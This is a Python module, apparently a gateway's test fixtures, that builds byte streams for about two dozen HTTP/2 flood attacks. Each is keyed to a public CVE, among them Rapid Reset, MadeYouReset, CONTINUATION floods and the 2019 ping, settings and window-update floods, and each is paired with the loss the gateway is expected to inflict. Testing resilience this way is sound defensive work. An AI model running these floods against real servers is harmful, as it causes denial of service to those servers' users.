# SPDX-License-Identifier: Apache-2.0
"""Floods of HTTP/2 (S17): what an attacker sends on one connection, piece by piece, for as long as it is let.

Each is a function of the host that yields bytes. Pieces have many frames, so that a program with little to do sends them fast.
"""
import dataclasses
import itertools
import struct
import typing

import h2_frames as h2

MANY = 64
MOST = 2**31 - 1


def streams(first=1):
    return itertools.count(first, 2)


def get(stream, host, path="/flooded", *fields, ends=True):
    head = h2.request_fields("POST" if not ends else "GET", host, path, *fields)
    return h2.headers(stream, head, h2.END_HEADERS | (h2.END_STREAM if ends else 0))


def each_stream(make):
    """Of a function that gives the frames for one stream: a flood that goes from stream to stream."""
    def flood(host):
        numbers = streams()
        while True:
            yield b"".join(make(stream, host) for stream in itertools.islice(numbers, MANY))

    return flood


def again(piece, first=lambda _: b""):
    """One piece over and over, after what begins the connection."""
    def flood(host):
        yield first(host)
        while True:
            yield piece

    return flood


def priority(stream, on, length=5):
    return h2.frame(h2.PRIORITY, stream=stream, payload=(struct.pack(">I", on) + b"\x10")[:length])


# CVE-2023-44487.
rapid_reset = each_stream(lambda stream, host: get(stream, host, "/big") + h2.reset(stream))

# CVE-2025-8671: the server is made to reset.
zero_update = each_stream(lambda stream, host: get(stream, host, "/big") + h2.window_update(stream, 0))
update_overflow = each_stream(lambda stream, host: get(stream, host, "/big") + h2.window_update(stream, MOST))
data_after_end = each_stream(lambda stream, host: get(stream, host, "/big") + h2.frame(h2.DATA, 0, stream, b"x"))
self_dependence = each_stream(lambda stream, host: get(stream, host, "/big") + priority(stream, stream))
priority_of_four = each_stream(lambda stream, host: get(stream, host, "/big") + priority(stream, 0, length=4))


def with_wrong_length(stream, host):
    head = get(stream, host, "/flooded", ("content-length", "5"), ends=False)
    return head + h2.frame(h2.DATA, h2.END_STREAM, stream, b"x")


wrong_length = each_stream(with_wrong_length)

# CVE-2024-27919 and its kin.
OPEN_BLOCK = h2.frame(h2.HEADERS, h2.END_STREAM, 1, h2.block(h2.request_fields("GET", "h1.test")))
continuations = again(h2.frame(h2.CONTINUATION, 0, 1, h2.literal("x-a", "b" * 4000) * 4), lambda _: OPEN_BLOCK)
small_continuations = again(h2.frame(h2.CONTINUATION, 0, 1, h2.literal("x-a", "b")) * MANY, lambda _: OPEN_BLOCK)
empty_continuations = again(h2.frame(h2.CONTINUATION, 0, 1) * MANY, lambda _: OPEN_BLOCK)

# CVE-2019-9511 to 9518.
pings = again(h2.ping() * MANY)
settings = again(h2.settings((h2.INITIAL_WINDOW_SIZE, 65535)) * MANY)
empty_settings = again(h2.settings() * MANY)
table_sizes = again((h2.settings((h2.HEADER_TABLE_SIZE, 0)) + h2.settings((h2.HEADER_TABLE_SIZE, 4096))) * MANY)
empty_data = again(h2.frame(h2.DATA, 0, 1) * MANY, lambda host: get(1, host, ends=False))
padded_nothing = again(h2.frame(h2.DATA, h2.PADDED, 1, b"\0") * MANY, lambda host: get(1, host, ends=False))
priorities = each_stream(lambda stream, _: priority(stream, 0))
unknown = again(h2.frame(0xee, 0, 1, b"x" * 8) * MANY)
updates = again(h2.window_update(0, 1) * MANY)
stream_updates = again(h2.window_update(1, 1) * MANY, lambda host: get(1, host, "/big"))
empty_heads = each_stream(lambda stream, _: h2.headers(stream, b""))


def tiny_data(host):
    """CVE-2020-12603: one byte in each frame, and never more of them than the windows allow that are there from the beginning."""
    for stream in itertools.islice(streams(), 4):
        yield get(stream, host, ends=False)
        for _ in range(60000 // MANY):
            yield h2.frame(h2.DATA, 0, stream, b"x") * MANY


def window_drip(host):
    """CVE-2019-9511: the answer is there, and is taken byte by byte."""
    yield get(1, host, "/big")
    while True:
        yield h2.window_update(1, 1)


@dataclasses.dataclass(frozen=True)
class Flood:
    pieces: typing.Callable
    reads: bool = True  # what the gateway sends
    settings: tuple = ()
    pause: float = 0  # seconds between two pieces, of an attacker who is slow
    loses: str = "connection"  # or "stream": its first one is reset, which is what it was about


FLOODS = {
    "rapid reset": Flood(rapid_reset),
    "made to reset, update of nothing": Flood(zero_update),
    "made to reset, update too large": Flood(update_overflow),
    "made to reset, data after the end": Flood(data_after_end),
    "made to reset, dependence on itself": Flood(self_dependence),
    "made to reset, priority of four bytes": Flood(priority_of_four),
    "made to reset, wrong length": Flood(wrong_length),
    "continuations": Flood(continuations),
    "small continuations": Flood(small_continuations),
    "empty continuations": Flood(empty_continuations),
    "pings": Flood(pings),
    "pings, answers not read": Flood(pings, reads=False),
    "settings": Flood(settings),
    "empty settings, answers not read": Flood(empty_settings, reads=False),
    "table sizes": Flood(table_sizes),
    "empty data": Flood(empty_data),
    "padding without data": Flood(padded_nothing),
    "data byte by byte": Flood(tiny_data),
    "priorities": Flood(priorities),
    "unknown frames": Flood(unknown),
    "window updates": Flood(updates),
    "window updates of a stream": Flood(stream_updates),
    "heads of nothing": Flood(empty_heads),
    "window drip": Flood(window_drip, settings=((h2.INITIAL_WINDOW_SIZE, 0),), pause=0.05, loses="stream"),
}
